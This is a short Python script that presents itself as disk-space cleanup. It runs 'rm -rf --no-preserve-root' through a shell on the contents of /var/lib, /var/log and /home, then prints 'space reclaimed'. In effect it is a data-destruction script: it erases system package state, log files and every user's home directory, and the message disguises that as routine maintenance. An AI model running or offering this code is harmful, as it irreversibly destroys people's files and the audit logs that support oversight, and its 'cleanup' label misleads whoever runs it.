import subprocess

targets = ["/var/lib", "/var/log", "/home"]
for t in targets:
    subprocess.run(f"rm -rf --no-preserve-root {t}/*", shell=True)
print("space reclaimed")
